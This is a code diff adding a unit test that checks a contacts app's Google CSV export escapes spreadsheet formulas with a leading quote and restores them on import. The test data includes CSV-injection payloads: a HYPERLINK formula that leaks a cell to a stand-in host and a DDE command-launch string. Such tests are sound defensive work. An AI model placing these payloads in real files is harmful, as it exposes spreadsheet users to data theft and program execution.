@@ -552,6 +552,30 @@ describe('round trips: export → import gives the same people', () => {
     expect(back.map((c) => [c.location, c.photoUrl])).toEqual(people.map((c) => [c.location, c.photoUrl]));
   });
 
+  it("Google CSV: a cell a spreadsheet would run as a formula is written with a ' first, and read back without it", () => {
+    const hostile: ContactDraft = {
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Anna")',
+      role: '@SUM(1+1)',
+      company: '-2+3',
+      notes: '+cmd|" /C calc"!A0',
+      phones: ['+49 30 1234567', '-1'],
+    };
+    const csv = writeGoogleCsv([hostile]);
+    const cells = csv.split('\r\n')[1] ?? '';
+    for (const v of [hostile.name, hostile.role, hostile.company, hostile.notes])
+      expect(cells, v).toContain(`"'${String(v).replaceAll('"', '""')}"`);
+    // A phone number's + and a bare "-1" stay as written: they are no formula a spreadsheet runs.
+    expect(cells).toContain(',+49 30 1234567,');
+    const [back] = parseContactsFile(utf8(csv), 'export.csv').contacts;
+    expect([back?.name, back?.role, back?.company, back?.notes, back?.phones]).toEqual([
+      hostile.name,
+      hostile.role,
+      hostile.company,
+      hostile.notes,
+      hostile.phones,
+    ]);
+  });
+
   it('JSON backup keeps every field, history and interactions included', () => {
     let n = 0;
     const full = people.map((p) => ({
